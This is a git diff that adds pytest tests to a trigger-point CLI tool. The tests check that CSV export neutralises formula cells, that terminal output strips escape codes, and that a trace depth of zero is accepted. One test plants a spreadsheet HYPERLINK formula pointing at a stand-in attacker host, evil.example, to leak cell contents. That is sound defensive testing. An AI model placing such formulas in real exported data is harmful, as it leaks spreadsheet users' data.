@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from typing import Any
+
 import pytest
 
 from triggerpoints.cli import main
@@ -46,3 +48,42 @@ def test_bad_values_give_one_line_and_no_traceback(
     assert "Traceback" not in captured.err
     errors = [line for line in captured.err.splitlines() if "error" in line]
     assert 1 == len(errors), captured.err
+
+
+def test_csv_cells_that_would_run_as_formulas_are_made_inert(
+    tmp_path: object, mini_document: dict[str, object]
+) -> None:
+    """``export csv`` prefixes a quote to cells a spreadsheet would run; ``--raw`` writes them as they are."""
+    import copy  # noqa: PLC0415 - only this test copies the fixture
+    import csv  # noqa: PLC0415
+    import json  # noqa: PLC0415
+    from pathlib import Path  # noqa: PLC0415
+
+    folder = Path(str(tmp_path))
+    document: dict[str, Any] = copy.deepcopy(mini_document)
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    document["muscles"][0]["location"] = payload
+    data = folder / "evil.json"
+    data.write_text(json.dumps(document), encoding="utf-8")
+    for raw, expected in ((False, "'" + payload), (True, payload)):
+        out = folder / ("raw" if raw else "safe")
+        assert 0 == main(["export", "csv", "-o", str(out), "--data", str(data), *(["--raw"] if raw else [])])
+        with (out / "muscles.csv").open(encoding="utf-8", newline="") as handle:
+            rows = list(csv.DictReader(handle))
+        assert expected == rows[0]["location"]
+
+
+def test_terminal_output_writes_control_characters_as_replacement_marks(capsys: pytest.CaptureFixture[str]) -> None:
+    """Escape codes never reach the terminal: the text stream replaces control characters."""
+    import io  # noqa: PLC0415
+
+    from triggerpoints._terminal import Clean  # noqa: PLC0415 - the stream under test
+
+    buffer = io.StringIO()
+    Clean(buffer).write("red \x1b[31mtext\x07\tand\nlines")
+    assert "red \ufffd[31mtext\ufffd\tand\nlines" == buffer.getvalue()
+
+
+def test_trace_accepts_a_depth_of_zero(capsys: pytest.CaptureFixture[str]) -> None:
+    """``trace --max-depth 0`` asks for direct referrals only, as the API allows."""
+    assert 0 == main(["trace", "quadratus lumborum", "low back", "--max-depth", "0"])
